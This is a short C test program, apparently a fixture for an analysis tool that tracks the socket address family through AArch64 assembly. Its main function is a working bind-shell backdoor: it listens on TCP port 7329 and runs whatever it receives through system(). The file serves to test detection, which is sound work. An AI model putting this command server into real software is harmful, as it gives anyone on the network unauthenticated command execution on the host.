/*
 * a64family.c - test program (never executed), AArch64 only: haveged's
 * shape on Debian's arm64 d-i initrd. socket()'s family is a constant the
 * function keeps in a callee-saved register (`mov w21, #FAM; ...
 * mov w0, w21; bl socket`), written in assembly so that the compiler cannot
 * rematerialise it; then a command server: bind to TCP 7329, accept, run
 * what it reads through system(). FAM=1 (AF_UNIX) makes it a local command
 * channel (clean), FAM=2 (AF_INET) a network one.
 */
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#define S_(x) #x
#define S(x) S_(x)

int open_sock(void);

__asm__(".text\n"
	".globl open_sock\n"
	".type open_sock, %function\n"
	"open_sock:\n"
	"stp x29, x30, [sp, #-32]!\n"
	"mov x29, sp\n"
	"stp x21, x22, [sp, #16]\n"
	"mov w21, #" S(FAM) "\n"
	"str w21, [sp, #28]\n"
	"mov w0, w21\n"
	"mov w1, #0x801\n" /* SOCK_STREAM | SOCK_CLOEXEC */
	"movk w1, #0x8, lsl #16\n"
	"mov w2, #0\n"
	"bl socket\n"
	"ldp x21, x22, [sp, #16]\n"
	"ldp x29, x30, [sp], #32\n"
	"ret\n");

int main(int c, char **v)
{
	struct sockaddr_in a;
	char b[64];
	int s = open_sock(), k;
	(void)v;
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(7329);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 5) < 0)
		return 1;
	k = accept(s, 0, 0);
	b[read(k, b, 63) & 63] = 0;
	return system(b) + c;
}
